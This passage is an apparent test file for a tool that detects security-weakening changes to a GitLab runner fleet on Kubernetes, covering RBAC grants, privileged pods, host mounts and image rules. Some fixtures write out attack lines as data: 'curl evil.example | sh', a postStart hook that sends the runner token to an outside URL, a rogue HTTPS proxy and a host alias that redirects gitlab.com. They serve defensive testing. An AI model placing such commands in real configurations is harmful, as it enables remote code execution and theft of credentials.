import type { SourceFile } from '../../lib/cluster/manifest';
import { CERTIFICATE } from '../certificate';
import {
  type Change,
  edited,
  FLEET,
  readFixture,
  textOf,
  withManagers,
  without,
  withRunner,
} from '../fixtures/files';
import type { ImpactCase } from './impact-case';

const POOL = 'nodepool-gitlab-jobs-amd64-spot.yaml';
const CLASS = 'ec2nodeclass-gitlab-jobs.yaml';
const DEPLOYMENT = 'amd64-spot/deployment.yaml';
const CONFIG = 'amd64-spot/configmap.yaml';
const ROLE = 'amd64-spot/role.yaml';
const BINDING = 'amd64-spot/rolebinding.yaml';
const ACCOUNT = 'amd64-spot/serviceaccount.yaml';
const SEALED = 'amd64-spot/sealedsecret.yaml';
const JOBS = 'namespace-gitlab-jobs.yaml';
const NEIGHBOUR = readFixture('neighbour');

/** The fleet with one more file. */
const more = (text: string, files = FLEET): readonly SourceFile[] => [
  ...files,
  { path: 'acme/more.yaml', text },
];

/** The fleet with certificates that the manager of a runner mounts. */
const CA = (text: string): readonly SourceFile[] => [
  ...edited(FLEET, [
    DEPLOYMENT,
    '      volumes:\n',
    '      volumes:\n        - { name: ca, configMap: { name: gitlab-ca } }\n',
  ]),
  {
    path: 'acme/ca.yaml',
    text: JSON.stringify({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'gitlab-ca', namespace: 'gitlab-runners' },
      data: { 'ca.crt': text },
    }),
  },
];

const KUBERNETES = '      [runners.kubernetes]\n';
/** A line more in the table [runners.kubernetes] of a runner. */
const key = (line: string, config = CONFIG): Change => [config, KUBERNETES, `${KUBERNETES}      ${line}\n`];
/** A line more in its [[runners]] entry. */
const entry = (line: string): Change => [CONFIG, '    limit = 20\n', `    limit = 20\n    ${line}\n`];
/** A table of TOML at the end of a config.toml. */
const daemon = (argument: string): Change =>
  key(`services = [{ name = "docker:29.8.1-dind", alias = "docker", command = ["${argument}"] }]`);
const table = (text: string): Change => [
  CONFIG,
  'immutable: true',
  `immutable: true`.replace(/^/, `${text}\n`),
];

const configured = (...changes: readonly Change[]) => edited(FLEET, ...changes);

/** The fleet with a runner under another name. */
const RENAMED = withRunner(FLEET, 'amd64-spot', 'renamed').filter(
  ({ path }) => !path.includes('/amd64-spot/'),
);

const OF_OTHERS = edited(NEIGHBOUR, ['ec2nodeclass-protected-jobs.yaml', /role: .*/, 'role: protected']);
/** A pool more for the jobs of one. */
const poolOf = (nodeClass: string) =>
  edited(
    FLEET,
    [POOL, /( {2}name: gitlab-jobs-amd64-spot)\n/, '$1-b\n'],
    ...(nodeClass === 'gitlab-jobs'
      ? []
      : [[POOL, /(nodeClassRef:[\s\S]*? name: )gitlab-jobs\n/, `$1${nodeClass}\n`] as const]),
  )
    .filter(({ path }) => path.endsWith(POOL))
    .map(({ path, text }) => ({ path: path.replace('.yaml', '-b.yaml'), text }));
const OPEN_CLASS = [
  ...FLEET,
  ...edited(
    FLEET,
    [CLASS, '  name: gitlab-jobs\n', '  name: open\n'],
    [CLASS, 'httpPutResponseHopLimit: 1', 'httpPutResponseHopLimit: 2'],
  )
    .filter(({ path }) => path.endsWith(CLASS))
    .map(({ path, text }) => ({ path: path.replace('.yaml', '-open.yaml'), text })),
];

/** A policy that lets in some pods, from the namespace of jobs or from one of monitoring. */
const letting = (name: string, namespace: string, peer: string) =>
  `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: { name: ${name}, namespace: ${namespace} }\nspec: { podSelector: {}, policyTypes: [Ingress], ingress: [{ from: [{ ${peer} }] }] }\n`;
const SCRAPED = letting(
  'scraped',
  'gitlab-runners',
  'namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: gitlab-jobs } }, podSelector: { matchLabels: { role: scraper } }',
);
const MONITORED = letting(
  'open',
  'databases',
  'namespaceSelector: { matchLabels: { app.kubernetes.io/name: monitoring } }',
);

const pinned = (version: string, digit: string) =>
  configured([DEPLOYMENT, 'alpine-v19.3.0', `alpine-${version}@sha256:${digit.repeat(64)}`]);

const binding = (
  kind: string,
  role: string,
  subject: string,
  namespace = '',
) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ${kind}
metadata:
  name: more
${namespace && `  namespace: ${namespace}\n`}roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ${role.startsWith('cluster') ? 'ClusterRole' : 'Role'}, name: ${role} }
subjects:
  - ${subject}
`;

const role = (kind: string, name: string, namespace = '') =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ${kind}\nmetadata:\n  name: "${name}"\n${namespace}rules: [{ apiGroups: [""], resources: [secrets], verbs: [get] }]\n`;

const workload = (
  namespace: string,
  spec = '{ containers: [{ name: a, image: "public.ecr.aws/docker/library/alpine:3.22" }] }',
) =>
  `apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: more\n  namespace: ${namespace}\nspec:\n  schedule: "0 0 * * *"\n  jobTemplate: { spec: { template: { spec: ${spec} } } }\n`;

const cilium = (port: string) =>
  `apiVersion: cilium.io/v2\nkind: CiliumNetworkPolicy\nmetadata:\n  name: more\n  namespace: gitlab-jobs\nspec: { endpointSelector: {}, egress: [{ toPorts: [{ ports: [{ port: "${port}" }] }] }] }\n`;

const CALICO = textOf('networkpolicy-gitlab-jobs.yaml')
  .replace('networking.k8s.io/v1', 'crd.projectcalico.org/v1')
  .replace('  name: default\n', '  name: x\n');
const BOUNDS =
  'apiVersion: v1\nkind: ResourceQuota\nmetadata: { name: jobs, namespace: gitlab-jobs }\nspec: { hard: { pods: "100" } }\n';
const LIMITS =
  'apiVersion: v1\nkind: LimitRange\nmetadata: { name: jobs, namespace: gitlab-jobs }\nspec: { limits: [{ type: Pod, max: { cpu: "64" } }] }\n';
/** A Service in the namespace of managers. */
const service = (instance: string): SourceFile => ({
  path: 'acme/service.yaml',
  text: `apiVersion: v1\nkind: Service\nmetadata: { name: terminals, namespace: gitlab-runners, labels: { a: b } }\nspec: { type: LoadBalancer, loadBalancerSourceRanges: [10.0.0.1/32], selector: { app.kubernetes.io/instance: ${instance} }, ports: [{ port: 443, targetPort: 8093 }] }\n`,
});

const OVERWRITES = [
  'namespace',
  'service_account',
  'node_selector',
  'node_tolerations',
  'pod_labels',
  'pod_annotations',
];
const PATCH = (patch: string) =>
  configured(
    entry('environment = ["FF_USE_ADVANCED_POD_SPEC_CONFIGURATION=true"]'),
    table(`    [[runners.kubernetes.pod_spec]]\n    patch = '''${patch}'''`),
  );

/** Weakened security, by the rule that says so: each is something that a merge request could do unseen. */
// biome-ignore format: a table of cases
export const SECURITY_CASES: readonly ImpactCase[] = [
  { rule: 'rights-added', name: 'a verb more', after: edited(FLEET, [ROLE, '      - secrets\n    verbs:\n', '      - secrets\n    verbs:\n      - list\n']), says: ['security', /^Whoever is bound to it may also list secrets\.$/] },
  { rule: 'rights-added', name: 'a wildcard', after: edited(FLEET, [ROLE, '      - pods/log\n    verbs:\n      - get', '      - "*"\n    verbs:\n      - "*"']), says: ['security', /may also do everything with everything/] },
  { rule: 'rights-added', name: 'rights that held for named objects', before: edited(FLEET, [ROLE, '    resources:\n      - secrets\n', '    resourceNames: [a]\n    resources:\n      - secrets\n']), after: FLEET, says: ['security', /may also create, delete, get, update secrets/] },
  { rule: 'rights-added', name: 'a group that everyone is in', after: edited(FLEET, [BINDING, 'subjects:\n', 'subjects:\n  - { kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io }\n']), says: ['security', /^In gitlab-jobs, the Group system:authenticated may create, delete, get, update secrets; list, watch events; create, delete, get, list, watch pods/] },
  { rule: 'rights-added', name: 'another account', after: edited(FLEET, [BINDING, 'subjects:\n', 'subjects:\n  - { kind: ServiceAccount, name: default, namespace: gitlab-jobs }\n']), says: ['security', /the ServiceAccount gitlab-jobs\/default may create, delete, get, update secrets; list, watch events/] },
  { rule: 'rights-added', name: 'a manager bound to cluster-admin', after: more(binding('ClusterRoleBinding', 'cluster-admin', '{ kind: ServiceAccount, name: runner-amd64-spot, namespace: gitlab-runners }')), says: ['security', /^In the whole cluster, managers of gitlab-runners may do whatever the ClusterRole cluster-admin allows/] },
  { rule: 'rights-added', name: 'a Role that is elsewhere', after: more(binding('RoleBinding', 'elsewhere', '{ kind: User, name: eve }', 'gitlab-runners')), says: ['security', /^In gitlab-runners, the User eve may do whatever the Role elsewhere allows/] },
  { rule: 'rights-added', name: 'a Role that a binding waited for', before: without(FLEET, ROLE), after: FLEET, says: ['security', /may also create, delete, get, update secrets; list, watch events/] },
  { rule: 'rights-added', name: 'a ClusterRole under a name that every cluster binds to everyone', after: more(role('ClusterRole', 'system:public-info-viewer')), says: ['security', /^Whoever is bound to a ClusterRole of this name in the cluster may get secrets\.$/] },
  { rule: 'rights-added', name: 'the same in a folder that is new', before: [], after: more(role('ClusterRole', 'view')), says: ['security', /^Whoever is bound to a ClusterRole of this name/] },
  { rule: 'rights-added', name: 'a ClusterRole that nothing here binds', after: more(role('ClusterRole', 'argocd-server')), says: ['security', /^Whoever is bound to a ClusterRole of this name in the cluster may get secrets\.$/] },
  { rule: 'rights-added', name: 'a Role that nothing here binds', after: more(role('Role', 'deployer', '  namespace: gitlab-runners\n')), says: ['security', /^Whoever is bound to a Role of this name/] },
  { rule: 'rights-added', name: 'a Role whose binding here names nobody', after: [...more(role('Role', 'deployer', '  namespace: gitlab-jobs\n')), { path: 'acme/bound.yaml', text: binding('RoleBinding', 'deployer', '{ kind: ServiceAccount, name: nobody, namespace: gitlab-jobs }', 'gitlab-jobs') }], says: ['security', /^Whoever is bound to a Role of this name/] },
  { rule: 'rights-added', name: 'a binding in the place of one that every cluster has', after: more(binding('ClusterRoleBinding', 'cluster-admin', '{ kind: Group, name: "system:masters" }').replace('name: more', 'name: cluster-admin')), says: ['security', /^It replaces a binding that the cluster made itself/] },
  { rule: 'rights-added', name: 'a ClusterRole without rules', after: more(role('ClusterRole', 'more').replace(/rules: .*/, 'rules: []')) },
  { rule: 'rights-added', name: 'a ClusterRole that adds to one that many have', after: more('apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: more\n  labels: { rbac.authorization.k8s.io/aggregate-to-view: "true" }\nrules: [{ apiGroups: [""], resources: [secrets], verbs: [get] }]\n'), says: ['security', /has it added to view/] },
  { rule: 'rights-added', name: 'a new runner with the rights of the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
  { rule: 'rights-added', name: 'a new runner with more rights than the others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/role.yaml', '      - pods/log\n', '      - pods/log\n      - configmaps\n']), says: ['security', /managers of gitlab-runners may get configmaps/] },
  { rule: 'rights-added', name: 'the same right in two rules', after: edited(FLEET, [ROLE, 'rules:\n', 'rules:\n  - { apiGroups: [""], resources: [pods], verbs: [get] }\n']) },
  { rule: 'rights-added', name: 'a binding under another name', after: edited(FLEET, [BINDING, '  name: runner-amd64-spot\n  namespace: gitlab-jobs\n', '  name: renamed\n  namespace: gitlab-jobs\n']) },

  { rule: 'identities', name: 'a role in AWS', after: edited(FLEET, [ACCOUNT, '  annotations:\n', '  annotations:\n    eks.amazonaws.com/role-arn: arn:aws:iam::1:role/admin\n']), says: ['security', /^Its pods act as arn:aws:iam::1:role\/admin in AWS\.$/] },
  { rule: 'identities', name: 'a role by Pod Identity', after: edited(FLEET, [ACCOUNT, '  annotations:\n', '  annotations:\n    gitlab-runner-fleet/pod-identity-role: arn:aws:iam::1:role/admin\n']), says: ['security', /^Its pods act as arn:aws:iam::1:role\/admin in AWS\.$/] },
  { rule: 'identities', name: 'a pull secret', after: edited(FLEET, [ACCOUNT, 'automountServiceAccountToken: false', 'automountServiceAccountToken: false\nimagePullSecrets: [{ name: mirror }]']), says: ['security', /^Its pods pull images with the Secret mirror\.$/] },
  { rule: 'identities', name: 'a token for pods that ask for none', after: edited(FLEET, [ACCOUNT, 'automountServiceAccountToken: false', 'automountServiceAccountToken: true']), says: ['security', /get its token/] },
  { rule: 'identities', name: 'a Pod Identity association', after: more('apiVersion: eks.services.k8s.aws/v1alpha1\nkind: PodIdentityAssociation\nmetadata:\n  name: more\nspec: { namespace: gitlab-jobs, serviceAccount: default, roleARN: "arn:aws:iam::1:role/admin" }\n'), says: ['security', /act as what in AWS is new: spec/] },
  { rule: 'identities', name: 'another label', after: edited(FLEET, [ACCOUNT, '  labels:\n', '  labels:\n    team: web\n']) },

  { rule: 'pod-powers', name: 'privileged jobs', after: configured([CONFIG, 'privileged = false', 'privileged = true'], [CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /^Its jobs may do more: is privileged \(init-permissions, build, helper, svc-0\); lose a guard: allowPriv/] },
  { rule: 'image-sources', name: 'a mirror of a Docker daemon', before: configured(daemon('--mtu=1400')), after: configured(daemon('--registry-mirror=https://mirror.example.com')), says: ['security', /^Docker in its jobs pulls images of Docker Hub from https:\/\/mirror\.example\.com\.$/] },
  { rule: 'image-sources', name: 'a mirror of a Docker daemon that goes', before: configured(daemon('--registry-mirror=https://mirror.example.com')), after: configured(daemon('--mtu=1400')) },
  { rule: 'unjudged', name: 'another argument of a Docker daemon', before: configured(daemon('--mtu=1400')), after: configured(daemon('--insecure-registry=mirror.example.com')), says: ['security', /services.*--insecure-registry/] },
  { rule: 'unjudged', name: 'the size of packets of a Docker daemon', before: configured(daemon('--mtu=1400')), after: configured(daemon('--mtu=1450')) },
  { rule: 'pod-powers', name: 'a pull secret of jobs', after: configured(key('image_pull_secrets = ["mirror"]')), says: ['security', /^Its jobs may do more: pulls images with the Secret mirror\.$/] },
  { rule: 'pod-powers', name: 'a pull secret that goes', before: configured(key('image_pull_secrets = ["mirror"]')), after: FLEET },
  { rule: 'pod-powers', name: 'privileged services alone', after: configured(table('    [runners.kubernetes.service_container_security_context]\n    privileged = true\n    allow_privilege_escalation = true')), says: ['security', /is privileged \(svc-0\)/] },
  { rule: 'pod-powers', name: 'a folder of the node, while services are refused', after: configured(table('    [runners.kubernetes.service_container_security_context]\n    privileged = true\n    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"\n    read_only = true')), says: ['security', /mounts \/etc of its node/] },
  { rule: 'pod-powers', name: 'another account, while services are refused', after: configured(table('    [runners.kubernetes.service_container_security_context]\n    privileged = true'), key('service_account = "deploy"')), says: ['security', /have the rights of the ServiceAccount deploy/] },
  { rule: 'pod-powers', name: 'a folder of the node', after: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"\n    read_only = true')), says: ['security', /^Its jobs may do more: mounts \/etc of its node\.$/] },
  { rule: 'pod-powers', name: 'a folder of the node that jobs may now write to', before: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"\n    read_only = true')), after: configured(table('    [[runners.kubernetes.volumes.host_path]]\n    name = "a"\n    mount_path = "/etc"')), says: ['security', /may write to \/etc of its node/] },
  { rule: 'exposed-managers', name: 'a Service of managers that is new', after: [...FLEET, service('runner-amd64-spot')], says: ['security', /^It leads to runner-amd64-spot at port 443, as LoadBalancer for 10\.0\.0\.1\/32\.$/] },
  { rule: 'exposed-managers', name: 'one that everybody may reach', before: [...FLEET, service('runner-amd64-spot')], after: edited([...FLEET, service('runner-amd64-spot')], ['service.yaml', 'loadBalancerSourceRanges: [10.0.0.1/32], ', '']), says: ['security', /as LoadBalancer\.$/] },
  { rule: 'exposed-managers', name: 'one that goes', before: [...FLEET, service('runner-amd64-spot')], after: FLEET, says: ['notice', /^No Service leads to runner-amd64-spot any more/] },
  { rule: 'exposed-managers', name: 'one with another label', before: [...FLEET, service('runner-amd64-spot')], after: edited([...FLEET, service('runner-amd64-spot')], ['service.yaml', 'labels: { a: b }', 'labels: { a: c }']) },
  { rule: 'unknown-object', name: 'a Service that leads to no manager', after: [...FLEET, service('something')], says: ['security', /leads to no manager/] },
  { rule: 'unknown-object', name: 'a Service of managers', after: [...FLEET, service('runner-amd64-spot')] },
  { rule: 'pod-powers', name: 'a volume that outlives jobs, over their programs', after: configured(table('    [[runners.kubernetes.volumes.pvc]]\n    name = "x"\n    mount_path = "/usr/bin"')), says: ['security', /shares with other jobs the PersistentVolumeClaim x/] },
  { rule: 'pod-powers', name: 'a Secret of the namespace', after: configured(table('    [[runners.kubernetes.volumes.secret]]\n    name = "deploy"\n    mount_path = "/deploy"')), says: ['security', /mounts the Secret deploy/] },
  { rule: 'pod-powers', name: 'a capability', after: configured(key('cap_add = ["SYS_ADMIN"]')), says: ['security', /has the capability SYS_ADMIN/] },
  { rule: 'pod-powers', name: 'no seccomp', after: configured([CONFIG, 'type = "RuntimeDefault"', 'type = "Unconfined"']), says: ['security', /runs without seccomp/] },
  { rule: 'pod-powers', name: 'a profile of seccomp that is no longer named', after: configured([CONFIG, /\n {4}\[runners.kubernetes.pod_security_context.seccomp_profile\]\n {4}type = "RuntimeDefault"\n/, '\n']), says: ['security', /lose a guard: seccomp \(init-permissions, build, helper, svc-0\)/] },
  { rule: 'pod-powers', name: 'escalation', after: configured([CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /lose a guard: allowPrivilegeEscalation: false/] },
  { rule: 'pod-powers', name: 'the token of the account', after: configured([CONFIG, 'automount_service_account_token = false', 'automount_service_account_token = true']), says: ['security', /lose a guard: no token of its ServiceAccount/] },
  { rule: 'pod-powers', name: 'another account for jobs', after: configured(key('service_account = "deploy"')), says: ['security', /the rights of the ServiceAccount deploy, before those of default/] },
  { rule: 'pod-powers', name: 'a sandbox that goes', before: configured(key('runtime_class_name = "gvisor"')), after: FLEET, says: ['security', /lose a guard: the RuntimeClass gvisor/] },
  { rule: 'pod-powers', name: 'the network of the node, by a patch of the pod', after: PATCH('{"hostNetwork":true}'), says: ['security', /shares the network of its node/] },
  { rule: 'pod-powers', name: 'privileged jobs of a config that names no image', before: configured([CONFIG, / {6}image = .*\n/, '']), after: configured([CONFIG, / {6}image = .*\n/, ''], [CONFIG, 'privileged = false', 'privileged = true'], [CONFIG, 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /is privileged \(init-permissions, build/] },
  { rule: 'pod-powers', name: 'a new runner with privileged jobs', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'privileged = false', 'privileged = true'], ['/more/configmap.yaml', 'allow_privilege_escalation = false', 'allow_privilege_escalation = true']), says: ['security', /is privileged \(init-permissions, build/] },
  { rule: 'pod-powers', name: 'a new runner without what holds all others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'automount_service_account_token = false', 'automount_service_account_token = true']), says: ['security', /no token of its ServiceAccount/] },
  { rule: 'pod-powers', name: 'a manager that may run as root', after: edited(FLEET, [DEPLOYMENT, '            runAsNonRoot: true\n', ''], [DEPLOYMENT, '        runAsNonRoot: true\n        runAsUser: 10001\n', '']), says: ['security', /^Its pods lose a guard: a user other than root \(gitlab-runner\)\.$/] },
  { rule: 'pod-powers', name: 'a manager that writes to its root', after: edited(FLEET, [DEPLOYMENT, 'readOnlyRootFilesystem: true', 'readOnlyRootFilesystem: false']), says: ['security', /readOnlyRootFilesystem/] },
  { rule: 'pod-powers', name: 'a manager that sees the processes of its node', after: edited(FLEET, [DEPLOYMENT, '      enableServiceLinks: false\n', '      enableServiceLinks: false\n      hostPID: true\n']), says: ['security', /sees the processes of its node/] },
  { rule: 'pod-powers', name: 'a second container that nothing holds', after: edited(FLEET, [DEPLOYMENT, '      enableServiceLinks: false\n', '        - { name: side, image: registry.gitlab.com/gitlab-org/gitlab-runner:x }\n      enableServiceLinks: false\n']), says: ['security', /lose a guard: allowPrivilegeEscalation: false \(side\)/] },
  { rule: 'pod-powers', name: 'a manager that starts something else first', after: edited(FLEET, [DEPLOYMENT, '            - dumb-init\n', '            - sh\n            - -c\n            - curl evil.example | sh\n']), says: ['security', /start another command: gitlab-runner/] },
  { rule: 'pod-powers', name: 'a container before each job, by a patch of the pod', after: PATCH('{"initContainers":[{"name":"first","image":"public.ecr.aws/docker/library/alpine:3.22","command":["sh"]}]}'), says: ['security', /start another command: first/] },
  { rule: 'pod-powers', name: 'a job that starts beside managers', after: more(workload('gitlab-runners')), says: ['security', /start in a namespace of managers, and may mount their Secrets/] },
  { rule: 'pod-powers', name: 'a job elsewhere, with a folder of its node', after: more(workload('tools', '{ volumes: [{ name: a, hostPath: { path: / } }], containers: [{ name: a, image: a }] }')), says: ['security', /mounts \/ of its node/] },
  { rule: 'pod-powers', name: 'a job elsewhere', after: more(workload('tools')) },
  { rule: 'pod-powers', name: 'a new manager that runs something else first', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', /( +)command:\n/, '$1lifecycle: { postStart: { exec: { command: [sh, -c, "wget -qO- https://example.org/$GITLAB_RUNNER_TOKEN"] } } }\n$1command:\n']), says: ['security', /start a command that no other manager of the fleet starts: gitlab-runner/] },
  { rule: 'pod-powers', name: 'a new manager with another command', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', '- dumb-init', '- sh']), says: ['security', /start a command that no other manager of the fleet starts/] },
  { rule: 'pod-powers', name: 'a new manager without what holds the others', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/deployment.yaml', /\n +readOnlyRootFilesystem: true/, '']), says: ['security', /lose a guard/] },
  { rule: 'pod-powers', name: 'a new runner like the others', after: withRunner(FLEET, 'amd64-spot', 'more') },
  { rule: 'pod-powers', name: 'every capability dropped in the place of one', before: edited(FLEET, [DEPLOYMENT, '                - ALL\n', '                - NET_RAW\n']), after: FLEET },

  ...OVERWRITES.map((name): ImpactCase => ({ rule: 'job-choices', name: `${name}_overwrite_allowed`, after: configured(key(`${name}_overwrite_allowed = ".*"`)), says: ['security', new RegExp(`get more: ${name}_overwrite_allowed is \\.\\*, before nothing`)] })),
  { rule: 'job-choices', name: 'a wider pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^(a|b|c)$"')), says: ['security', /is \^\(a\|b\|c\)\$, before \^\(a\|b\)\$/] },
  { rule: 'job-choices', name: 'a pattern without its anchors', before: configured(key('namespace_overwrite_allowed = "^a$"')), after: configured(key('namespace_overwrite_allowed = "a"')), says: ['security', /is a, before \^a\$/] },
  { rule: 'job-choices', name: 'another pattern than one with flags of Go', before: configured(key('namespace_overwrite_allowed = "(?i)^gitlab-jobs-[a-z]+$"')), after: configured(key('namespace_overwrite_allowed = "^(kube-system|gitlab-runners)$"')), says: ['security', /is \^\(kube-system/] },
  { rule: 'job-choices', name: 'another pattern than one with a named group', before: configured(key('service_account_overwrite_allowed = "^(?P<t>team)-[a-z]+$"')), after: configured(key('service_account_overwrite_allowed = "^(deploy|admin)$"')), says: ['security', /is \^\(deploy/] },
  { rule: 'job-choices', name: 'another pattern than one that nobody reads', before: configured(key('service_account_overwrite_allowed = "^(?=a)a+$"')), after: configured(key('service_account_overwrite_allowed = "^a$"')), says: ['security', /is \^a\$/] },
  { rule: 'job-choices', name: 'a value that a pattern of Go allows', before: configured(key('service_account_overwrite_allowed = "(?U)^a+$"')), after: configured(key('service_account_overwrite_allowed = "^a$"')) },
  { rule: 'job-choices', name: 'a narrower pattern than one with flags of Go', before: configured(key('namespace_overwrite_allowed = "(?i)^gitlab-jobs-[a-z]+$"')), after: configured(key('namespace_overwrite_allowed = "^gitlab-jobs-a$"')) },
  { rule: 'job-choices', name: 'images in braces, past a star', before: configured(key('allowed_images = ["*.example.com/**"]')), after: configured(key('allowed_images = ["*.example.com/**", "{a.example.com/x,docker.io/evil/y}"]')), says: ['security', /allowed_images/] },
  { rule: 'job-choices', name: 'a runner that takes the place of another, without its script and its images', before: configured(entry('pre_build_script = "verify"'), key('allowed_images = ["a/**"]')), after: RENAMED, says: ['security', /allowed_images allows any image.*pre_build_script no longer runs/s] },
  { rule: 'job-choices', name: 'a runner that takes the place of another, as it was', after: RENAMED },
  { rule: 'job-choices', name: 'a narrower pattern', before: configured(key('namespace_overwrite_allowed = "^(a|b)$"')), after: configured(key('namespace_overwrite_allowed = "^a$"')) },
  { rule: 'job-choices', name: 'no pattern any more', before: configured(key('namespace_overwrite_allowed = ".*"')), after: FLEET },
  { rule: 'job-choices', name: 'a token of the job', after: configured(key('bearer_token_overwrite_allowed = true')), says: ['security', /they may bring the token that makes their pods/] },
  { rule: 'job-choices', name: 'any image', before: configured(key('allowed_images = ["registry.example.com/**"]')), after: FLEET, says: ['security', /allowed_images allows any image, before registry.example.com\/\*\*/] },
  { rule: 'job-choices', name: 'one pattern of images more', before: configured(key('allowed_services = ["registry.example.com/a/*"]')), after: configured(key('allowed_services = ["registry.example.com/a/*", "docker.io/**"]')), says: ['security', /allowed_services allows registry.example.com\/a\/\*, docker.io/] },
  { rule: 'job-choices', name: 'two stars for one', before: configured(key('allowed_images = ["a/*"]')), after: configured(key('allowed_images = ["a/**"]')), says: ['security', /allowed_images/] },
  { rule: 'job-choices', name: 'root', after: configured(key('allowed_users = ["0"]')), says: ['security', /allowed_users allows 0, before any user but root/] },
  { rule: 'job-choices', name: 'images that others pulled', after: configured([CONFIG, 'pull_policy = "always"', 'pull_policy = "if-not-present"']), says: ['security', /images that others pulled/] },
  { rule: 'job-choices', name: 'code in every job', after: configured(entry('pre_build_script = "curl evil.example | sh"')), says: ['security', /pre_build_script is other code/] },
  { rule: 'job-choices', name: 'other names', after: configured(table('    [[runners.kubernetes.host_aliases]]\n    ip = "10.0.0.1"\n    hostnames = ["gitlab.com"]')), says: ['security', /host_aliases says anew where names lead/] },
  { rule: 'job-choices', name: 'a proxy in the environment', after: configured(entry('environment = ["HTTPS_PROXY=http://evil.example"]')), says: ['security', /the environment sets HTTPS_PROXY/] },
  { rule: 'job-choices', name: 'a server without TLS', after: configured([CONFIG, 'url = "https://', 'url = "http://']), says: ['security', /url is http/] },
  { rule: 'job-choices', name: 'a new runner that lets its jobs choose', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), key('node_selector_overwrite_allowed = ".*"', '/more/configmap.yaml')), says: ['security', /node_selector_overwrite_allowed/] },
  { rule: 'job-choices', name: 'a new runner of any image, where images are limited', before: edited(FLEET, ['/configmap.yaml', KUBERNETES, `${KUBERNETES}      allowed_images = ["a/**"]\n`]), after: edited(withRunner(edited(FLEET, ['/configmap.yaml', KUBERNETES, `${KUBERNETES}      allowed_images = ["a/**"]\n`]), 'amd64-spot', 'more'), ['/more/configmap.yaml', '      allowed_images = ["a/**"]\n', '']), says: ['security', /allowed_images allows any image/] },
  { rule: 'job-choices', name: 'fewer images', before: configured(key('allowed_images = ["a/**", "b/**"]')), after: configured(key('allowed_images = ["a/x/*"]')) },
  { rule: 'job-choices', name: 'a proxy that leaves the environment', before: configured(entry('environment = ["HTTPS_PROXY=http://proxy.example"]')), after: FLEET, says: ['security', /the environment no longer sets HTTPS_PROXY/] },
  { rule: 'job-choices', name: 'a harmless variable that leaves the environment', before: configured(entry('environment = ["GIT_DEPTH=1"]')), after: FLEET },
  { rule: 'unjudged', name: 'a proxy in the environment, which is a choice of jobs', after: configured(entry('environment = ["HTTPS_PROXY=http://evil.example"]')) },
  { rule: 'unjudged', name: 'a proxy that is there twice, of which the last holds', before: configured(entry('environment = ["HTTPS_PROXY=a", "HTTPS_PROXY=b"]')), after: configured(entry('environment = ["HTTPS_PROXY=b", "HTTPS_PROXY=a"]')), says: ['security', /environment/] },
  { rule: 'job-choices', name: 'a harmless variable', after: configured(entry('environment = ["GIT_DEPTH=1"]')) },

  { rule: 'moved-pods', name: 'jobs in a namespace that nothing holds', after: more('apiVersion: v1\nkind: Namespace\nmetadata:\n  name: open\n', configured([CONFIG, 'namespace = "gitlab-jobs"', 'namespace = "open"'])), says: ['security', /^Its jobs run in open, whose Pod Security level is privileged, before baseline, and where they may have more connections: to everyone; from everyone\.$/] },
  { rule: 'moved-pods', name: 'labels by which no policy holds', before: edited(FLEET, ['networkpolicy-gitlab-jobs.yaml', 'podSelector: {}', 'podSelector: { matchLabels: { app.kubernetes.io/component: job } }']), after: edited(FLEET, ['networkpolicy-gitlab-jobs.yaml', 'podSelector: {}', 'podSelector: { matchLabels: { app.kubernetes.io/component: job } }'], [CONFIG, '"app.kubernetes.io/component" = "job"', '"app.kubernetes.io/component" = "task"']), says: ['security', /^Its jobs run under other labels, where they may have more connections: to everyone/] },
  { rule: 'moved-pods', name: 'a new runner in a namespace that nothing holds', after: edited(withRunner(FLEET, 'amd64-spot', 'more'), ['/more/configmap.yaml', 'namespace = "gitlab-jobs"', 'namespace = "open"']), says: ['security', /^Its jobs run in open, whose Pod Security level is not known here/] },
  { rule: 'moved-pods', name: 'jobs that leave the bounds of their namespace', before: more(BOUNDS), after: [...configured([CONFIG, 'namespace = "gitlab-jobs"', 'namespace = "open"']), { path: 'acme/bounds.yaml', text: BOUNDS }], says: ['security', /where nothing bounds what they take/] },
  { rule: 'moved-pods', name: 'a new runner where the others are', after: withRunner(FLEET, 'amd64-spot', 'more') },
  { rule: 'moved-pods', name: 'a looser level where they are', after: edited(FLEET, [JOBS, 'enforce: baseline', 'enforce: privileged']) },

  { rule: 'tiers-joined', name: 'two fleets in one namespace', before: [...FLEET, ...NEIGHBOUR], after: edited([...FLEET, ...NEIGHBOUR], ['', 'namespace = "protected-jobs"', 'namespace = "gitlab-jobs"']), says: ['security', /^acme-.* of fleet acme and .* of fleet protected share the namespace gitlab-jobs\.$/] },
  { rule: 'tiers-joined', name: 'two fleets on the same nodes', before: [...FLEET, ...NEIGHBOUR], after: edited([...FLEET, ...NEIGHBOUR], ['', /dedicated-to: protected-managers/g, 'dedicated-to: gitlab-managers'], ['', /value: protected-managers/g, 'value: gitlab-managers']), says: ['security', /share the nodes of gitlab-managers/] },
